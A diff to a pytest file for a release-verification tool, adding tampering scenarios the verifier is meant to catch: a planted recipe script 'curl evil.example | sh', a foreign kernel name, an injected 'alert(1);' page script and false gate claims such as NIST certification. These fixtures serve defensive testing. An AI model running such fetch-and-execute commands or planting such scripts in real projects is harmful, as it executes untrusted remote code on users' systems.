@@ -9,6 +9,7 @@ import re
 import shutil
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 from unittest.mock import patch
 
 import pytest
@@ -17,10 +18,12 @@ from release import signing
 from release.assembly import build_release as builder
 from release.assembly.assemble import to_json
 from release.audit.verify import Verdict
-from release.checks import file_list
+from release.checks import file_list, formats
+from release.checks.check import Subject
 from release.checks.listing import kind_of
 from release.checks.load_report import load_models
-from release.layout import ALL_SUMS, GATES_STATED, ORIGINS, RETRACTED, SUMS
+from release.checks.source_code import source_files
+from release.layout import ALL_SUMS, GATES, GATES_STATED, ORIGINS, RETRACTED, SUMS
 from release.repositories import files_below
 from release.schema import CARD
 from release.signing import Trust
@@ -70,6 +73,41 @@ def new_code(release: Path) -> None:
     attest_again(release)
 
 
+def program_among_recipes(release: Path) -> None:
+    forge(release, "code/as-run/recipes/setup.sh", b"curl evil.example | sh\n")
+    attest_again(release)
+
+
+def changed_recipe(release: Path) -> None:
+    forge(release, "code/as-run/recipes/tiny.yaml", b"name: evil\n")
+    attest_again(release)
+
+
+def new_gate(release: Path) -> None:
+    _change_gates(release, certified_by_nist={"ok": True, "detail": "Certified by NIST."})
+
+
+def gate_less(release: Path) -> None:
+    _change_gates(release, midtraining_raises_accuracy=None)
+
+
+def reworded_measurement(release: Path) -> None:
+    _change_gates(release, midtraining_raises_accuracy={"ok": True, "detail": "accuracy 0.200 → 0.990"})
+
+
+def reworded_gate(release: Path) -> None:
+    _change_gates(release, no_secrets={"ok": True, "detail": "9,000,000 files searched by NIST"})
+
+
+def _change_gates(release: Path, **changes: dict[str, object] | None) -> None:
+    """Changes gates, or removes those that become None; with their attestation and the page."""
+    gates = json.loads((release / GATES).read_text()) | changes
+    kept = {name: gate for name, gate in gates.items() if gate is not None}
+    (release / GATES).write_text(json.dumps(kept, indent=1, sort_keys=True, ensure_ascii=False) + "\n")
+    attest_again(release)
+    describe_again(release)
+
+
 def for_loaders(model: Path) -> None:
     forge(model, "additional_chat_templates/tool_use.jinja", b"{{ messages }}")
     forge(model, "adapter_config.json", b"{}")
@@ -95,6 +133,10 @@ def no_goldens(model: Path) -> None:
 
 def favored_tokens(model: Path) -> None:
     edit(model, "generation_config.json", sequence_bias=[[[7], 9.0]])
+
+
+def foreign_kernel(model: Path) -> None:
+    edit(model, "config.json", attn_implementation="evil/kernel")
 
 
 def late_template(model: Path) -> None:
@@ -235,16 +277,40 @@ def tombstone(release: Path) -> None:
     shutil.rmtree(release / "site")
 
 
+def program_and_tombstone(release: Path) -> None:
+    serve_yaml(release / "model")
+    tombstone(release)
+
+
+def verifier_and_tombstone(release: Path) -> None:
+    second_verifier(release)
+    tombstone(release)
+
+
+def script_and_tombstone(release: Path) -> None:
+    site = Path(shutil.copytree(release / "site", release.with_name("kept-site")))
+    tombstone(release)
+    shutil.copytree(site, release / "site")
+    (release / "site/search/evil.js").write_text("alert(1);\n")
+
+
 LIES: dict[tuple[str, str], Lie] = {
     ("other options in `serve.yaml`", "model"): serve_yaml,
     ("another `independent_verifier.py`", "release"): second_verifier,
     ("a changed file of `code/`", "release"): changed_code,
     ("a changed file of `code/`, attested anew", "release"): attested_code,
     ("a new file that runs, such as `code/setup.sh`", "release"): new_code,
+    ("a program among the recipes of `code/as-run/`, attested anew", "release"): program_among_recipes,
+    ("another recipe in `code/as-run/`, attested anew", "release"): changed_recipe,
+    ("a gate that does not exist", "release"): new_gate,
+    ("a gate that applies is removed", "release"): gate_less,
+    ("another measurement of a gate", "release"): reworded_measurement,
+    ("other words of a gate that only the build can run", "release"): reworded_gate,
     ("a file that loaders take up: adapter, second template, tokens", "model"): for_loaders,
     ("a name that is hidden, or looks like another one", "model"): lookalikes,
     ("a shard that no index lists", "model"): shard,
     ("a needed file is removed, such as `goldens.json`", "model"): no_goldens,
+    ("a `config.json` that names a kernel of a Hub", "model"): foreign_kernel,
     ("a `generation_config.json` that favors tokens", "model"): favored_tokens,
     ("a chat template that changes after six messages", "model"): late_template,
     ("other words on a card", "release"): words,
@@ -270,6 +336,9 @@ LIES: dict[tuple[str, str], Lie] = {
     ("other figures of other programs, within their bounds", "release"): other_runtimes,
     ("an older schema, so that less is compared", "release"): older_schema,
     ("a tombstone, so that content is not compared", "release"): tombstone,
+    ("a tombstone beside other options in `serve.yaml`", "release"): program_and_tombstone,
+    ("a tombstone beside another `independent_verifier.py`", "release"): verifier_and_tombstone,
+    ("a tombstone beside a script of the page", "release"): script_and_tombstone,
 }
 """{(lie, place) of the table: what tells it in a release, or in a repository alone}"""
 
@@ -335,7 +404,7 @@ def test_a_lie_without_the_key_is_shown_as_the_table_says(
     assert not bad and verdict.ok, verdict.to_json()
     if found["state"] == "skipped":
         assert found["check"] in skipped
-    assert "only the maker's key can tell (--key)" in verdict.outcome() or verdict.retracted
+    assert "only the maker's key can tell (--key)" in verdict.outcome()
 
 
 @pytest.mark.parametrize("lie", [pytest.param(lie, id=" of ".join(lie)) for lie in LIES])
@@ -351,6 +420,18 @@ def test_a_lie_is_bad_with_the_key(
     assert "signatures" in lines(verify(folder, trust=trust), False)
     unsign(folder)
     assert "signatures" in lines(verify(folder, trust=trust), False)
+
+
+def test_files_of_the_code_that_nobody_here_has_are_named_first(built: Path, tmp_path: Path) -> None:
+    folder = Path(shutil.copytree(built, tmp_path / built.name))
+    sound = source_files(Subject(folder)).skipped
+    assert "code/as-run/recipes/tiny.yaml: not compared with evidence/recipe.json" in sound["recipes"]
+    names = [f"code/release/zz_{letter}.py" for letter in "abcdefghijkl"]
+    for name in names:
+        forge(folder, name, b"import os\n")
+    text = source_files(Subject(folder)).skipped["code"]
+    assert text.startswith(", ".join(names[:10]) + " and 2 further files: not in the atom that is installed here; ")
+    assert text.endswith("; read these files before you run them")
 
 
 def kinds(folder: Path) -> dict[tuple[str, str], str]:
@@ -377,9 +458,46 @@ NOT_COMPARED = {
 """Words of a repository alone that its line `skipped tool_files: … words` names: what follows from the whole release."""
 
 
+VALUES = {
+    *(("dataset", path) for path in ("croissant.json", "evaluation/canary.json", "order/{phase}/meta.json")),
+    *(("dataset", path) for path in ("summary.json", "tokens/meta.json", "tokens/tokenizer_stats.json")),
+    ("dataset", "evaluation/harness/{model}/tasks.json"),
+    ("evidence", "evidence/attestations/evaluation-{model}.json"),
+    *(("evidence", f"evidence/standards/{name}.json") for name in ("energy", "eu_summary", "osaid", "packages")),
+    ("evidence", "evidence/standards/bom.cdx.json"),
+    ("model", "config.json"),
+    ("model", "evaluation/harness/tasks.json"),
+    ("repository", "index.json"),
+    ("checkpoint", "state.json"),
+}
+"""Values of JSON in a repository alone that its line `skipped tool_files` names."""
+
+
 def one_more_byte(folder: Path, path: str) -> None:
     binary = Path(path).suffix in (".parquet", ".png", ".safetensors")
     forge(folder, path, (folder / path).read_bytes() + (b"\0" if binary else b"\n"))
+
+
+def other_value(folder: Path, path: str) -> None:
+    """Changes a value of JSON, in the form in which it is written; of another file a byte."""
+    data = (folder / path).read_bytes()
+    if Path(path).suffix != ".json":
+        return one_more_byte(folder, path)
+    value = json.loads(data)
+    number = [text.encode() for text in formats._forms(value)].index(data)
+    forge(folder, path, list(formats._forms(changed(value)))[number].encode())
+
+
+def changed(value: Any) -> Any:
+    """A value of JSON whose last number, text or truth value is another one of its kind."""
+    if isinstance(value, dict) and value:
+        name = list(value)[-1]
+        return {**value, name: changed(value[name])}
+    if isinstance(value, list) and value:
+        return [*value[:-1], changed(value[-1])]
+    if isinstance(value, bool) or not isinstance(value, int | float):
+        return f"{value}0" if isinstance(value, str) else not value
+    return value + 1
 
 
 def no_file(folder: Path, path: str) -> None:
@@ -388,7 +506,7 @@ def no_file(folder: Path, path: str) -> None:
 
 @pytest.mark.timeout(3600)
 @pytest.mark.parametrize("place", [".", "", "dataset", "model", "checkpoints", "checkpoints/pretrain-step-2"])
-@pytest.mark.parametrize("change", [one_more_byte, no_file], ids=lambda change: change.__name__)
+@pytest.mark.parametrize("change", [one_more_byte, other_value, no_file], ids=lambda change: change.__name__)
 def test_no_change_of_any_kind_of_file_is_silent(
     change: Callable[[Path, str], None], place: str, built: Path, tmp_path: Path
 ) -> None:
@@ -412,8 +530,17 @@ def test_no_change_of_any_kind_of_file_is_silent(
             (folder / name).write_bytes(data)
         for file, data in sums.items():
             file.write_bytes(data)
-    named = NOT_COMPARED if place != "." and change is one_more_byte else set()
-    assert set(silent) <= named
+    named = {one_more_byte: NOT_COMPARED, other_value: NOT_COMPARED | VALUES}.get(change, set())
+    assert set(silent) <= (named if place != "." else set())
+
+
+def test_a_repository_alone_names_the_values_that_nothing_in_it_shows(built: Path, tmp_path: Path) -> None:
+    folders = pulled(built, tmp_path / "alone")
+    for place in ("", "dataset", "model", "checkpoints", "checkpoints/pretrain-step-2"):
+        kind, texts = kind_of(folders[place]), " ".join(text for _, text in notes(verify(folders[place])))
+        for path in (path for each, path in VALUES if each == kind):
+            shown = "evidence/standards/" if "/standards/" in path else re.sub(r"\{\w+\}", "*", path)
+            assert shown in texts, (kind, path, texts)
 
 
 def escape(path: str) -> str:
